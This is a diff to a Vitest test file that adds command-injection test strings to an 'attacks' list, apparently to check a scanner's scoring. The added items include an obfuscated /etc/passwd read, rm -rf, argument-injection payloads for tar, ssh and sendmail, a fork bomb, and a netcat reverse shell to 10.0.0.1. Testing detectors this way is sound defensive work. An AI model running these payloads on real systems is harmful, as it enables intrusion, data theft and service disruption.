@@ -1,7 +1,26 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks and texts are written like that
 import { describe, expect, it } from 'vitest'
 import { familyTotalOf } from './scan-score.ts'
 
 const attacks: readonly string[] = [
+  '|dig +short x.example.net',
+  ';cat /et${x}c/pas${x}swd',
+  'python3 -c "import os"',
+  'rm -rf /tmp/x',
+  '--use-compress-program=id',
+  '-oProxyCommand=id',
+  '--checkpoint-action=exec=sh',
+  'x -OQueueDirectory=/tmp -X/var/www/x',
+  '<(cat file)',
+  '>(tee log)',
+  'for %variable in (set) do command',
+  'IF NOT DEFINED x (SET x=1)',
+  'if "%1"=="" goto ERROR',
+  'IF 2 GEQ 15 echo x',
+  'f(){ f & f; };f',
+  ';zcat x.gz',
+  'strace -f ls',
+  'x;\\n.shell nc 10.0.0.1 6666 -e sh',
   ';id',
   '|id',
   '||id',
